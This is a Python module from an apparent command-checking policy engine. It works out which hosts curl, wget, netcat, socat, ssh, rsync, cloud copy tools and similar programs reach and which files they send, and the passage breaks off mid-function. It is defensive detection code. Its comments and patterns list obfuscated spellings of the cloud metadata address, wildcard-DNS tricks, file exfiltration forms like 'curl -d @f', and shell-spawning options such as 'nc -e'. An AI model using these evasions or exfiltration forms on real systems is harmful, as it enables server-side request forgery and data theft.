"""Programs that talk to the network: whom, and what they send.

curl, wget, netcat and socat, ssh, scp and rsync (`host:path` on either side),
cloud copies (`aws s3 cp`, `gsutil`, `rclone`), mail, httpie, and package
managers (an install from a URL or a git repository runs code it downloads).
A file is *sent* when its contents leave the machine: `curl -d @f`, `-T f`,
`-F x=@f`, `scp f host:`, `nc host < f`, data piped into `nc` or `ssh`.
"""

from __future__ import annotations

import ipaddress
import posixpath
import re
import urllib.parse
from collections.abc import Callable, Iterable, Sequence

from policy.analysis import shell as _shell
from policy.analysis._lazy_re import LazyPattern
from policy.analysis._memo import remember_short
from policy.analysis.operands import (
    URL_SCHEME,
    Facts,
    has_option,
    host_of,
    option_values,
    remote_host,
    send,
    split_options,
    stdin_is_data,
    words,
)

__all__ = [
    "HANDLERS",
    "canonical_host",
    "canonical_hosts",
    "file_server",
    "hosts_in_words",
    "interpreter_server",
    "node_server",
    "pip",
    "python_server",
    "url_hosts",
]


# ------------------------------------------------------------------ hosts
#
# A host is compared by the address it names, not by how it is spelt: the numeric
# forms inet_aton, the WHATWG URL parser and curl all accept (`169.254.43518`,
# `0251.254.169.254`, `0xa9fea9fe`, `2852039166`), IPv6 that carries an IPv4 address
# (`::ffff:a9fe:a9fe`, NAT64 `64:ff9b::a9fe:a9fe`), a name's trailing dot and case,
# percent-encoding and full-width digits, and names of wildcard DNS services that
# resolve to the address they spell (`169-254-169-254.nip.io`, `a9fea9fe.rbndr.us`).


def _ipv4_part(text: str) -> int | None:
    """One part of a numeric host as inet_aton reads it: hex, octal or decimal."""
    if text[:2] in ("0x", "0X"):
        digits = text[2:]
        if not digits:
            return 0  # WHATWG: `0x` alone is zero
        return int(digits, 16) if _HEX.fullmatch(digits) else None
    if not text.isascii() or not text.isdigit():
        return None
    if len(text) > 1 and text[0] == "0":
        return int(text, 8) if _OCTAL.fullmatch(text) else None
    return int(text)


_HEX = LazyPattern(r"[0-9a-fA-F]+")
_OCTAL = LazyPattern(r"[0-7]+")


def _ipv4(text: str) -> str:
    """The dotted address of a numeric host of one to four parts ("" if it is none):
    the last part fills the bytes the others leave, as inet_aton and WHATWG read it."""
    parts = text.split(".")
    if len(parts) > 1 and parts[-1] == "":
        parts.pop()  # WHATWG drops one trailing dot
    if not 1 <= len(parts) <= 4 or any(len(p) > 40 for p in parts):
        return ""
    values = [_ipv4_part(p) for p in parts]
    if any(v is None for v in values):
        return ""
    numbers = [v for v in values if v is not None]
    head, last = numbers[:-1], numbers[-1]
    if any(v > 255 for v in head) or last >= 256 ** (5 - len(numbers)):
        return ""
    value = last
    for position, byte in enumerate(head):
        value += byte << (8 * (3 - position))
    return str(ipaddress.IPv4Address(value))


#: IPv6 prefixes whose last 32 bits are an IPv4 address a packet may reach:
#: IPv4-compatible `::/96`, SIIT `::ffff:0:0:0/96`, NAT64 `64:ff9b::/96` and the
#: local-use `64:ff9b:1::/48`.
_EMBEDDING = (
    ipaddress.IPv6Network("::/96"),
    ipaddress.IPv6Network("::ffff:0:0:0/96"),
    ipaddress.IPv6Network("64:ff9b::/96"),
    ipaddress.IPv6Network("64:ff9b:1::/48"),
)


def _ipv6(text: str) -> str:
    """The compressed spelling of an IPv6 host ("" if it is none), or the IPv4
    address it carries (mapped, compatible, translated, NAT64, 6to4)."""
    text = text.split("%", 1)[0]  # a zone: `fe80::1%eth0`
    if ":" not in text:
        return ""
    try:
        address = ipaddress.IPv6Address(text)
    except ValueError:
        return ""
    if address.ipv4_mapped is not None:
        return str(address.ipv4_mapped)
    if address.sixtofour is not None:
        return str(address.sixtofour)
    if int(address) > 1 and any(address in net for net in _EMBEDDING):
        return str(ipaddress.IPv4Address(int(address) & 0xFFFFFFFF))
    return address.compressed


_DOTS = str.maketrans({"\u3002": ".", "\uff0e": ".", "\uff61": "."})


@remember_short(2048, 255)  # (a DNS name is at most 253 characters)
def canonical_host(host: str) -> str:
    """The address or name `host` reaches, spelt one way: dotted IPv4, compressed
    IPv6, or the lower-case name without its trailing dot. Userinfo and a port are
    dropped; percent-encoding and full-width characters are decoded first, as curl
    and the WHATWG parser do."""
    text = host.strip().rsplit("@", 1)[-1]
    if "%" in text and not text.startswith("["):
        text = urllib.parse.unquote(text)
    if not text.isascii():
        import unicodedata  # (a C module loaded for the names that need it)

        text = unicodedata.normalize("NFKC", text).translate(_DOTS)
    text = text.lower()
    if text.startswith("["):
        inner = text[1:].split("]", 1)[0]
        inner = urllib.parse.unquote(inner.replace("%25", "%"))
        return _ipv6(inner) or inner
    if text.count(":") > 1:
        return _ipv6(text) or text
    text = text.split(":", 1)[0].rstrip(".")
    return _ipv4(text) or text


_EMBEDDED_DOTTED = LazyPattern(
    r"(?:^|[.-])((?:0x[0-9a-f]+|\d+)[.-](?:0x[0-9a-f]+|\d+)[.-](?:0x[0-9a-f]+|\d+)"
    r"[.-](?:0x[0-9a-f]+|\d+))(?=$|[.-])"
)
_EMBEDDED_HEX = LazyPattern(r"(?:^|[.-])([0-9a-f]{8})(?=$|[.-])")
_EMBEDDED_V6 = LazyPattern(
    r"(?:^|\.)([0-9a-f-]*--[0-9a-f-]*|(?:[0-9a-f]{1,4}-){7}[0-9a-f]{1,4})(?=\.)"
)


def _embedded(name: str) -> list[str]:
    """Addresses a name spells in its labels, as wildcard DNS services (nip.io,
    sslip.io, xip.io, traefik.me, rbndr.us) resolve it: only those in address space
    that is not public (link-local, private, loopback, shared, reserved), where an
    attacker's name points to reach what the machine alone may reach."""
    found: list[str] = []
    for match in _EMBEDDED_DOTTED.finditer(name):
        found.append(_ipv4(match[1].replace("-", ".")))
    for match in _EMBEDDED_HEX.finditer(name):
        found.append(_ipv4("0x" + match[1]))
    for match in _EMBEDDED_V6.finditer(name):
        found.append(_ipv6(match[1].replace("-", ":")))
    return [a for a in found if a and not ipaddress.ip_address(a).is_global]


def _is_address(text: str) -> bool:
    try:
        ipaddress.ip_address(text)
    except ValueError:
        return False
    return True


def canonical_hosts(hosts: Iterable[str]) -> list[str]:
    """`hosts` with the canonical spelling of each and the addresses their names
    spell (`canonical_host`, `_embedded`) added: a rule comparing addresses sees
    every way the one it names was written."""
    out: list[str] = []
    for host in hosts:
        out.append(host)
        canonical = canonical_host(host)
        if canonical and canonical != host:
            out.append(canonical)
        if canonical and not _is_address(canonical):
            out += _embedded(canonical)
    return out


_AUTHORITY_ENDS = (LazyPattern(r"[/\\?#]"), LazyPattern(r"[/?#]"), LazyPattern(r"/"))
_SCHEME = LazyPattern(r"^\s*[A-Za-z][A-Za-z0-9+.-]*:(?=[/\\]|[^/\\]*[.@])")
#: Schemes whose slashes WHATWG skips however many there are (`http:\\\\host`).
_SPECIAL_SCHEMES = frozenset({"http", "https", "ws", "wss", "ftp"})


def url_hosts(url: str) -> list[str]:
    """The host of `url` as each parser reads it: WHATWG ends the authority at `/`,
    `\\`, `?` or `#`, curl at `/`, `?` or `#`, older parsers at `/` alone; the host
    is what follows the last `@` of it. A scheme's slashes may be any number of `/`
    and `\\` (WHATWG), or none (`http:host`)."""
    scheme = _SCHEME.match(url)
    rest = url[scheme.end() :] if scheme else url
    name = scheme[0].strip().rstrip(":").lower() if scheme else ""
    if not name or name in _SPECIAL_SCHEMES:
        rest = rest.lstrip("/\\")
    elif rest.startswith("//"):
        rest = rest[2:]  # `file:///etc/passwd`: an empty host
    else:
        return [""]  # `mailto:`, `file:/x`: no authority
    found: list[str] = []
    for end in _AUTHORITY_ENDS:
        authority = end.split(rest, 1)[0]
        host = _host_port(authority.rsplit("@", 1)[-1])
        if host not in found:
            found.append(host)
    return found


_URL_IN_TEXT = LazyPattern(r"[A-Za-z][A-Za-z0-9+.-]*:(?://|\\\\)[^\s'\"`<>()]+")


def hosts_in_words(words: Iterable[str]) -> list[str]:
    """The hosts of every URL written in `words` (a program's arguments, the code
    given to an interpreter): whatever reads them may connect there."""
    found: list[str] = []
    for word in words:
        if "://" in word or ":\\\\" in word:
            for match in _URL_IN_TEXT.finditer(word):
                found += url_hosts(match[0])
    return found


_VALUE_OPTIONS: dict[str, frozenset[str]] = {
    "curl": words(
        "--url-query --variable --expand-url --unix-socket --abstract-unix-socket "
        "-d --data --data-ascii --data-binary --data-raw --data-urlencode --json -F "
        "--form --form-string -T --upload-file -o --output --output-dir -H --header -X "
        "--request -u --user -A --user-agent -e --referer -b --cookie -c --cookie-jar "
        "-x --proxy -U --proxy-user -K --config --url -m --max-time --connect-timeout "
        "-w --write-out -D --dump-header -E --cert --key --cacert --capath --netrc-file "
        "-r --range -Y --speed-limit -y --speed-time -z --time-cond --retry "
        "--retry-delay --retry-max-time --resolve --connect-to --interface --limit-rate "
        "--max-filesize --max-redirs --trace --trace-ascii --stderr --libcurl -Q "
        "--quote -P --ftp-port --oauth2-bearer --aws-sigv4 --unix-socket "
        "--abstract-unix-socket --proto --proto-redir --pinnedpubkey --tls-max "
        "--ciphers --dns-servers --doh-url --mail-from --mail-rcpt --variable "
        "--expand-data --expand-url --expand-header --url-query --hsts --alt-svc "
        "--etag-save --etag-compare --request-target --socks5 --socks5-hostname "
        "--socks4 --preproxy"
    ),
    "wget": frozenset(
        {
            "-O",
            "--output-document",
            "-o",
            "--output-file",
            "-a",
            "--append-output",
            "-P",
            "--directory-prefix",
            "-i",
            "--input-file",
            "-e",
            "--execute",
            "--post-data",
            "--post-file",
            "--body-data",
            "--body-file",
            "--header",
            "-U",
            "--user-agent",
            "--user",
            "--password",
            "--http-user",
            "--http-password",
            "-t",
            "--tries",
            "-T",
            "--timeout",
            "-w",
            "--wait",
            "-Q",
            "--quota",
            "--load-cookies",
            "--save-cookies",
            "--certificate",
            "--private-key",
            "--ca-certificate",
            "--method",
            "-l",
            "--level",
            "-A",
            "--accept",
            "-R",
            "--reject",
            "-D",
            "--domains",
            "--exclude-domains",
            "-B",
            "--base",
            "--referer",
            "--limit-rate",
            "--use-askpass",
            "-b",
        }
        - {"-b"}
    ),
    "pip": words(
        "-r --requirement -c --constraint -e --editable -i --index-url "
        "--extra-index-url -f --find-links -t --target --prefix --root -d --dest "
        "--platform --python-version --implementation --abi --src --upgrade-strategy "
        "--install-option --global-option --config-settings -C --log --proxy --retries "
        "--timeout --exists-action --trusted-host --cert --client-cert --cache-dir "
        "--progress-bar --python --report --only-binary --no-binary"
    ),
    "scp": words("-c -F -i -J -l -o -P -S -X"),
    "rsync": words(
        "-e --rsh --rsync-path --files-from --exclude-from --include-from "
        "--password-file --filter-from --log-file --backup-dir --partial-dir -T "
        "--temp-dir --exclude --include -f --filter --chmod --chown --usermap "
        "--groupmap --port --bwlimit --timeout --contimeout --compare-dest --copy-dest "
        "--link-dest --suffix --max-size --min-size --max-delete -B --block-size "
        "--out-format --log-file-format --checksum-choice --compress-choice "
        "--compress-level --iconv -M --remote-option --info --debug --modify-window "
        "--only-write-batch --write-batch --read-batch --protocol --sockopts --outbuf "
        "--stop-after --stop-at --address"
    ),
    "docker": frozenset(
        {
            "-v",
            "--volume",
            "--mount",
            "-e",
            "--env",
            "--env-file",
            "-p",
            "--publish",
            "--name",
            "-w",
            "--workdir",
            "-u",
            "--user",
            "--network",
            "--net",
            "--pid",
            "--ipc",
            "--uts",
            "--userns",
            "--cap-add",
            "--cap-drop",
            "--opt",
            "-o",
            "--driver",
            "--security-opt",
            "--device",
            "--entrypoint",
            "-l",
            "--label",
            "--platform",
            "-t",
            "--tag",
            "-f",
            "--file",
            "--build-arg",
            "--target",
            "-H",
            "--host",
            "--context",
            "--config",
            "--log-driver",
            "--log-opt",
            "--restart",
            "-m",
            "--memory",
            "--cpus",
            "--gpus",
            "--add-host",
            "--dns",
            "--hostname",
            "-h",
            "--health-cmd",
            "--tmpfs",
            "--ulimit",
            "--volumes-from",
            "--link",
            "--runtime",
            "--shm-size",
            "--stop-signal",
            "--cgroupns",
            "--cgroup-parent",
            "--cidfile",
            "--isolation",
            "--expose",
            "--format",
            "--filter",
            "-a",
            "--attach",
        }
        - {"-a"}
    ),
}


def _curl(f: Facts) -> None:
    f.network = True
    operands, options = split_options(f.cmd.args, _VALUE_OPTIONS["curl"])
    urls = [*operands, *option_values(options, "--url")]
    globbing = not has_option(options, "-g", "--globoff")
    for url in urls:
        if url.startswith("file:"):
            f.read(
                url[len("file:") :].lstrip("/").join(["/", ""]) if url.startswith("file:/") else url
            )
            continue
        for expanded in _curl_globs(url) if globbing else (url,):
            f.hosts += url_hosts(expanded)
    _curl_routes(f, options)
    for option in ("-d", "--data", "--data-ascii", "--data-binary", "--data-urlencode", "--json"):
        for value in options.get(option, ()):
            _curl_data(f, value, urlencoded=option == "--data-urlencode")
    for value in option_values(options, "-F", "--form"):
        _, _, content = value.partition("=")
        if content.startswith(("@", "<")):
            path = content[1:].split(";", 1)[0]
            send(f, path)
        elif _shell._UNKNOWN in content:
            f.sends.append("$?")
    for value in option_values(options, "-T", "--upload-file"):
        send(f, value)
    for socket in option_values(options, "--unix-socket", "--abstract-unix-socket"):
        if "docker" in socket or "podman" in socket or "containerd" in socket:
            f.privileged = True  # the container engine's API: root on the host
    for value in option_values(options, "-H", "--header", "--url-query", "--variable"):
        # `-H @file` sends the file's lines as headers; `--url-query @f`, `--variable n@f`
        name, at, path = value.partition("@")
        if at and (not name or value.startswith("@") or "--variable" in options):
            send(f, path)
    f.write(
        *(
            v
            for v in option_values(
                options,
                "-o",
                "--output",
                "-c",
                "--cookie-jar",
                "-D",
                "--dump-header",
                "--trace",
                "--trace-ascii",
                "--stderr",
                "--libcurl",
            )
            if v != "-"
        )
    )
    if has_option(options, "-O", "--remote-name", "--remote-name-all", "-J"):
        directory = option_values(options, "--output-dir")
        for url in urls:
            name = posixpath.basename(URL_SCHEME.sub("", url).split("?", 1)[0]) or "index.html"
            f.write(name, base=f.at(directory[-1]) if directory else None)
    f.read(
        *option_values(
            options, "-K", "--config", "--netrc-file", "-E", "--cert", "--key", "--cacert"
        )
    )
    f.read(*(v for v in option_values(options, "-b", "--cookie") if "=" not in v))
    f.downloads += f.writes
    if has_option(options, "-K", "--config"):
        f.hide("curl reads options from a config file the policy cannot see")
    _data_in_names(f, f.hosts)


def _curl_routes(f: Facts, options: dict[str, list[str]]) -> None:
    """Where curl connects besides the URL's host: `--resolve HOST:PORT:ADDR[,ADDR]`,
    `--connect-to HOST:PORT:HOST2:PORT2`, and the proxies it goes through."""
    for value in option_values(options, "--resolve"):
        addresses = value.lstrip("+-").split(":", 2)[2:]
        for address in addresses[0].split(",") if addresses else ():
            f.hosts.append(address)
    for value in option_values(options, "--connect-to"):
        target = _host_port(value.split(":", 2)[2] if value.count(":") >= 2 else "")
        if target:
            f.hosts.append(target)
    for value in option_values(
        options,
        "-x",
        "--proxy",
        "--preproxy",
        "--socks4",
        "--socks4a",
        "--socks5",
        "--socks5-hostname",
        "--doh-url",
    ):
        f.hosts += url_hosts(value)


def _host_port(text: str) -> str:
    """The host of `HOST:PORT` or `[V6]:PORT`."""
    if text.startswith("["):
        return text.split("]", 1)[0] + "]"
    return text.split(":", 1)[0]


_CURL_GLOB = LazyPattern(r"\{([^{}]*)\}|\[([0-9]+)-([0-9]+)(?::([0-9]+))?\]|\[([a-z])-([a-z])\]")
#: At most this many URLs are made of one curl glob (`http://10.0.0.[1-254]/`).
_MAX_GLOB = 1024


def _curl_globs(url: str) -> list[str]:
    """The URLs a curl glob stands for: `{a,b}` lists and `[1-9]` / `[a-z]` ranges."""
    if "{" not in url and "[" not in url:
        return [url]
    match = _CURL_GLOB.search(url)
    if match is None:
        return [url]
    if match[1] is not None:
        choices = match[1].split(",")
    elif match[2] is not None:
        step = int(match[4] or 1) or 1
        low, high = int(match[2]), int(match[3])
        choices = [
            str(n).zfill(len(match[2]))
            for n in range(low, min(high, low + _MAX_GLOB * step) + 1, step)
        ]
    else:
        choices = [chr(c) for c in range(ord(match[5]), ord(match[6]) + 1)]
    head, tail = url[: match.start()], url[match.end() :]
    out: list[str] = []
    for choice in choices[:_MAX_GLOB]:
        out += _curl_globs(head + choice + tail)
        if len(out) >= _MAX_GLOB:
            return out[:_MAX_GLOB]
    return out


def _curl_data(f: Facts, value: str, *, urlencoded: bool) -> None:
    if urlencoded and "@" in value and not value.startswith("@"):
        value = value[value.index("@") :]
        if "=" in value.split("@", 1)[0]:
            return
    if value.startswith("@"):
        send(f, value[1:])
    elif _shell._UNKNOWN in value:
        f.sends.append("$?")


def _wget(f: Facts) -> None:
    f.network = True
    operands, options = split_options(f.cmd.args, _VALUE_OPTIONS["wget"])
    for url in operands:
        f.hosts += url_hosts(url)
    _data_in_names(f, f.hosts)
    for value in option_values(options, "--post-file", "--body-file"):
        send(f, value)
    for value in option_values(options, "--post-data", "--body-data"):
        if _shell._UNKNOWN in value:
            f.sends.append("$?")
    outputs = option_values(options, "-O", "--output-document")
    prefix = option_values(options, "-P", "--directory-prefix")
    base = f.at(prefix[-1]) if prefix else None
    if outputs:
        f.write(*(o for o in outputs if o != "-"))
    else:
        for url in operands:
            name = posixpath.basename(URL_SCHEME.sub("", url).split("?", 1)[0]) or "index.html"
            f.write(name, base=base)
    f.write(*option_values(options, "-o", "--output-file", "-a", "--append-output"))
    f.read(
        *option_values(
            options, "-i", "--input-file", "--load-cookies", "--certificate", "--private-key"
        )
    )
    f.downloads += list(f.writes)
    if has_option(options, "--use-askpass"):
        f.hide("wget --use-askpass runs a program")
    if has_option(options, "-e", "--execute"):
        f.hide("wget -e runs wgetrc commands the policy cannot judge")


_NC_VALUE = words(
    "-e -c -p -s -w -i -q -x -X -I -O -P -T -V -W -M -m --exec --sh-exec --lua-exec "
    "--source --wait --proxy"
)


def _netcat(f: Facts) -> None:
    f.network = True
    operands, options = split_options(f.cmd.args, _NC_VALUE)
    for option in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec"):
        for value in options.get(option, ()):
            f.hide(f"{f.cmd.name} {option} runs {value!r} on the connection")
            f.sends.append("-")
    listening = has_option(options, "-l", "--listen")
    if has_option(options, "-U", "--unixsock") and any(_ENGINE_SOCKET.search(o) for o in operands):
        f.privileged = True  # `nc -U /var/run/docker.sock`: the container engine's API
    if listening:
        # `nc -l [-p] PORT`, `nc -l ADDR PORT`: what it is given goes to whoever connects
        hosts = [o for o in operands if not o.isdigit() and not re.fullmatch(r"\d+-\d+", o)]
        f.hosts += hosts[:1] or option_values(options, "-s", "--source")[:1]
    else:
        f.hosts += operands[:1]  # `nc 2852039166 80`: a number is a host too
    if stdin_is_data(f) and not has_option(options, "-z"):
        f.sends.append("-")


def _socat(f: Facts) -> None:
    f.network = True
    operands, _ = split_options(f.cmd.args, words("-d -D -t -T -b -lf -lp"))
    local_file = False
    for address in operands:
        kind, _, rest = address.partition(":")
        kind = kind.upper().split(",", 1)[0]
        if kind in ("EXEC", "SYSTEM"):
            f.hide(f"socat {kind} runs {rest.split(',', 1)[0]!r} on the connection")
            f.sends.append("-")
        elif kind in (
            "TCP",
            "TCP4",
            "TCP6",
            "UDP",
            "UDP4",
            "UDP6",
            "SSL",
            "OPENSSL",
            "SOCKS4",
            "SOCKS4A",
            "PROXY",
        ):
            f.hosts.append(_host_port(rest))
        elif kind.startswith(("UNIX", "ABSTRACT")) or kind == "GOPEN":
            if _ENGINE_SOCKET.search(rest.split(",", 1)[0]):
                f.privileged = True  # the container engine's API: root on the host
            if kind == "GOPEN":
                f.read(rest.split(",", 1)[0])
                local_file = True
        elif kind in ("FILE", "OPEN", "CREATE", "CREAT"):
            path = rest.split(",", 1)[0]
            f.read(path)
            if kind in ("CREATE", "CREAT"):
                f.write(path)
            local_file = True
        elif address in ("-", "STDIN", "STDIO", "STDOUT"):
            local_file = local_file or stdin_is_data(f)
    if local_file:
        f.sends.append("-")


def _telnet_like(f: Facts) -> None:
    f.network = True
    operands, _ = split_options(f.cmd.args, words("-b -e -l -n -X -u -p -P -o"))
    f.hosts += operands[:1]  # `telnet 2852039166 80`: a number is a host too
    if stdin_is_data(f):
        f.sends.append("-")
    if f.cmd.name in ("sftp", "ftp", "lftp", "tftp", "smbclient"):
        _, options = split_options(f.cmd.args, words("-b -c -e -f"))
        f.read(*option_values(options, "-b", "-f"))
        if has_option(options, "-c", "-e"):
            f.hide(f"{f.cmd.name} runs the commands it is given")


def _openssl(f: Facts) -> None:
    operands, _ = split_options(
        f.cmd.args,
        words("-connect -in -out -key -inkey -CAfile -cert -passin -passout -engine -config"),
    )
    f.subcommand = operands[0] if operands else ""
    # openssl options are single-dash words: read them from the raw args
    args = list(f.cmd.args)
    for position, arg in enumerate(args):
        value = args[position + 1] if position + 1 < len(args) else ""
        if arg == "-connect":
            f.network = True
            f.hosts.append(value.split(":", 1)[0])
        elif arg == "-in" and f.subcommand in ("x509", "crl", "verify", "req", "crl2pkcs7"):
            f.listing(value)  # a certificate is parsed; a key given here is refused
        elif arg in ("-in", "-key", "-inkey", "-cert", "-CAfile", "-config"):
            f.read(value)
        elif arg == "-out":
            f.write(value)
        elif arg == "-engine":
            f.hide("openssl -engine loads code")
    if f.network and stdin_is_data(f):
        f.sends.append("-")


_LOCAL_HOSTS = frozenset({"localhost", "127.0.0.1", "::1", "[::1]", "0.0.0.0", "ip6-localhost"})
_SSH_VALUE = words("-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w -B -P")


def _ssh(f: Facts) -> None:
    f.network = True
    operands, options = split_options(f.cmd.args, _SSH_VALUE)
    if operands:
        f.hosts.append(remote_host(operands[0]))
        user = operands[0].split("@", 1)[0] if "@" in operands[0] else ""
        user = user or next(iter(option_values(options, "-l")), "")
        if user == "root" and remote_host(operands[0]) in _LOCAL_HOSTS:
            f.privileged = True  # root on this machine, by the back door
    if has_option(options, "-R"):
        # a remote forward opens this machine's services to the other side
        f.sends += [f"(tunnel {v})" for v in option_values(options, "-R")]
    _ssh_options(f, options)
    f.read(*option_values(options, "-F"))
    if stdin_is_data(f):
        f.sends.append("-")


def _ssh_options(f: Facts, options: dict[str, list[str]]) -> None:
    for value in option_values(options, "-o"):
        key = value.split("=", 1)[0].split(None, 1)[0].lower()
        if key in (
            "proxycommand",
            "localcommand",
            "permitlocalcommand",
            "knownhostscommand",
            "match",
        ):
            f.hide(f"ssh option {value!r} runs a program")


_REMOTE_PATH = LazyPattern(
    r"^(?:[A-Za-z][A-Za-z0-9+.-]*://|(?:[^/:@\s]+@)?(?:\[[^\]]+\]|[^/:\s]+)::?)"
)


def _is_remote(operand: str) -> bool:
    return bool(_REMOTE_PATH.match(operand)) and not operand.startswith(("./", "/", "~"))


def _copy_remote(f: Facts) -> None:
    """scp and rsync: SOURCE... DEST where either side may be `host:path`."""
    name = f.cmd.name
    takes = _VALUE_OPTIONS[name]
    operands, options = split_options(f.cmd.args, takes)
    if name == "scp":
        if has_option(options, "-S"):
            f.hide("scp -S runs the program it is given instead of ssh")
        _ssh_options(f, options)
        f.read(*option_values(options, "-F"))
        f.recursive = has_option(options, "-r")
    else:
        for value in option_values(options, "-e", "--rsh"):
            if not re.fullmatch(r"ssh(\s+-[pi]\s*\S+|\s+-[46CqvT]+)*", value.strip()):
                f.hide(f"rsync -e runs {value!r}")
        if has_option(options, "--rsync-path"):
            f.hide("rsync --rsync-path runs a program on the other side")
        f.read(
            *option_values(
                options,
                "--files-from",
                "--exclude-from",
                "--include-from",
                "--password-file",
                "--filter-from",
            )
        )
        f.write(
            *option_values(
                options, "--log-file", "--backup-dir", "--partial-dir", "--temp-dir", "-T"
            )
        )
        f.recursive = has_option(options, "-r", "-a", "--recursive", "--archive")
    if not operands:
        return
    sources, dest = (operands[:-1], operands[-1]) if len(operands) > 1 else (operands, "")
    remote_dest = _is_remote(dest)
    for source in sources:
        if _is_remote(source):
            f.network = True
            f.hosts.append(remote_host(source))
        else:
            if f.recursive:
                f.read_tree(source)
            else:
                f.read(source)
            if remote_dest:
                send(f, source)
                if f.recursive:
                    f.sends.append(f.reads[-1])  # SOURCE/**
    if remote_dest:
        f.network = True
        f.hosts.append(remote_host(dest))
    elif dest:
        f.write(dest)
        if any(_is_remote(s) for s in sources):
            f.downloads.append(f.at(dest))
        if has_option(
            options,
            "--delete",
            "--delete-before",
            "--delete-after",
            "--delete-during",
            "--delete-excluded",
            "--remove-source-files",
        ):
            f.delete(dest)
            f.recursive = True
    if has_option(options, "--remove-source-files"):
        f.delete(*(s for s in sources if not _is_remote(s)))


def _cloud_copy(f: Facts) -> None:
    """aws s3 cp/sync/mv, gsutil cp, rclone copy, azcopy: local files to a bucket."""
    f.network = True
    operands, _ = split_options(f.cmd.args, words("--profile --region --endpoint-url -p --config"))
    if f.cmd.name == "aws":
        f.subcommand = operands[0] if operands else ""
        if operands[:1] == ["s3"] and len(operands) > 1 and operands[1] in ("cp", "mv", "sync"):
            paths = operands[2:]
        else:
            return
    elif f.cmd.name in ("gsutil", "rclone", "azcopy", "s3cmd", "gcloud"):
        f.subcommand = operands[0] if operands else ""
        paths = operands[1:]
        if f.cmd.name == "gcloud":
            if operands[:2] not in (["storage", "cp"], ["storage", "rsync"], ["storage", "mv"]):
                return
            paths = operands[2:]
        elif f.subcommand not in _CLOUD_COPIES:
            return
    else:
        return
    if len(paths) < 2:
        return
    sources, dest = paths[:-1], paths[-1]
    cloud = re.compile(r"^(?:s3|gs|az|r2|[A-Za-z0-9_-]+)://|^[A-Za-z0-9_-]+:(?!/)")
    if cloud.match(dest):
        f.hosts.append(host_of(dest) if "://" in dest else dest.split(":", 1)[0])
        for source in sources:
            if not cloud.match(source):
                send(f, source)
    else:
        f.write(dest)
        f.read(*(s for s in sources if not cloud.match(s)))


#: The subcommands of cloud storage tools that move files (the rest list or describe).
_CLOUD_COPIES = words("cp mv sync rsync copy copyto move moveto rcat put")


def _mail(f: Facts) -> None:
    f.network = True
    operands, options = split_options(
        f.cmd.args,
        words("-s -a -A -c -b -r -S -f -F -i -q -t"),
    )
    f.read(*option_values(options, "-F"))
    for value in option_values(options, "-a", "-A"):
        send(f, value)
    f.hosts += [o.split("@", 1)[-1] for o in operands if "@" in o]
    if stdin_is_data(f):
        f.sends.append("-")


_HTTPIE_VALUE = words(
    "-a --auth -A --auth-type -o --output --session --session-read-only --verify --cert "
    "--cert-key --cert-key-pass --ssl --ciphers -p --print -P --history-print -s --style "
    "--pretty --format-options --response-charset --response-mime --timeout "
    "--max-redirects --default-scheme --boundary --proxy --raw --bearer --resolve "
    "--interface --unix-socket --http-version --max-headers -b --body --headers -j"
) - {"-b", "--body", "--headers", "-j"}
#: A request item that embeds or uploads a file: `field=@file`, `field:=@file`,
#: `header:@file`, `param==@file`, `field@file` (a form upload) and xh's bare `@file`.
_HTTPIE_FILE = LazyPattern(r"^(?:[^=:@\\]|\\.)*(?:==|:=|=|:)?@(?P<path>.+)$")
_HTTPIE_METHOD = LazyPattern(r"^[A-Za-z]+$")


def _http_client(f: Facts) -> None:
    """httpie (`http`, `https`) and xh (`xh`, `xhs`): `http [METHOD] URL [ITEM...]`.
    The first operand is the method when it is a bare word and another follows (as
    httpie's own parser decides); the URL needs no scheme (`example.com/x`, `:8080`,
    `0xa9fea9fe/latest/`: httpie prepends `http://`, `:PORT` is localhost); an item
    naming `@file` sends that file."""
    f.network = True
    operands, options = split_options(f.cmd.args, _HTTPIE_VALUE)
    start = 1 if len(operands) > 1 and _HTTPIE_METHOD.match(operands[0]) else 0
    if start < len(operands):
        f.hosts.append(_httpie_host(operands[start]))
    for item in operands[start + 1 :]:
        found = _HTTPIE_FILE.match(item)
        if found and not item.startswith(("http:", "https:")):
            send(f, found["path"].split(";", 1)[0])
        elif _shell._UNKNOWN in item and re.match(r"^[^=:]*(?:==|:=|=)", item):
            f.sends.append("$?")  # `field=$(cat x)`: data from a substitution
    for value in option_values(options, "--proxy"):
        f.hosts += url_hosts(value.split(":", 1)[-1])  # `--proxy=http:http://host:port`
    for value in option_values(options, "--resolve"):
        f.hosts.append(value.rsplit(":", 1)[-1])  # xh `--resolve host:addr`
    for value in option_values(options, "--raw"):
        if value.startswith("@"):
            send(f, value[1:])
    for socket in option_values(options, "--unix-socket"):
        if _ENGINE_SOCKET.search(socket):
            f.privileged = True  # the container engine's API: root on the host
    f.read(*option_values(options, "--cert", "--cert-key", "--session", "--session-read-only"))
    f.write(*option_values(options, "-o", "--output"))
    if stdin_is_data(f):
        f.sends.append("-")
    _data_in_names(f, f.hosts)


#: Sockets of a container engine's API (docker, podman, containerd, buildkit):
#: whoever talks to one can start a privileged container.
_ENGINE_SOCKET = LazyPattern(r"docker|podman|containerd|buildkit|cri-o|crio")


def _httpie_host(url: str) -> str:
    """The host of an httpie URL operand, written with or without a scheme."""
    if url.startswith(":") and not url.startswith("://"):
        return "localhost"  # `:8080/x`, `:/x`
    if url.startswith("://"):
        url = "http" + url
    elif not URL_SCHEME.match(url):
        url = "http://" + url
    return next(iter(url_hosts(url)), "")


def _aria2c(f: Facts) -> None:
    f.network = True
    operands, options = split_options(
        f.cmd.args,
        words(
            "-o --out -d --dir -i --input-file --on-download-complete "
            "--on-bt-download-complete --on-download-start --on-download-error "
            "--on-download-stop"
        ),
    )
    f.hosts += [host_of(o) for o in operands]
    base = option_values(options, "-d", "--dir")
    outputs = option_values(options, "-o", "--out") or [
        posixpath.basename(URL_SCHEME.sub("", o).split("?", 1)[0]) or "index.html" for o in operands
    ]
    for output in outputs:
        f.write(output, base=f.at(base[-1]) if base else None)
    f.downloads += list(f.writes)
    f.read(*option_values(options, "-i", "--input-file"))
    for option in (
        "--on-download-complete",
        "--on-bt-download-complete",
        "--on-download-start",
        "--on-download-error",
        "--on-download-stop",
    ):
        if option in options:
            f.hide(f"aria2c {option} runs a program")
            f.downloaded = True


def _network_only(f: Facts) -> None:
    f.network = True
    operands, options = split_options(
        f.cmd.args,
        words("-c -i -p -s -t -W -w -q -b -e -f -h -k -l -m -o -x -y -4 -6 -I"),
    )
